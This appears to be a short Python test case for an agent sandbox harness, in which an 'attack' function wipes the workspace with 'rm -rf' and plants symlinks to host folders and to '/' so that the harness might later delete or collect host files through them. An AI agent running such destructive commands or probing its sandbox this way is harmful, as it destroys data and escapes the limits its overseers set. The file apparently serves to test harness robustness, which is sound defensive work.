"""Deletes all that it may and puts links to the host's folders in the place of what was there.

It could pay if the harness deleted or collected through them.
"""

ENDS = {"rejected", "invalid"}
OUTCOME = {"finished"}
FINDING = None


def attack(session):
    return session.tools.bash(f"""
        rm -rf /workspace/* /workspace/.[a-z]* /git 2>/dev/null
        ln -s {session.task.folder} toy; ln -s {session.folder.parents[2]} tests; ln -s / README.md; ls /workspace
    """).output


def check(seen):
    assert seen.loot == "README.md\ntests\ntoy\n"
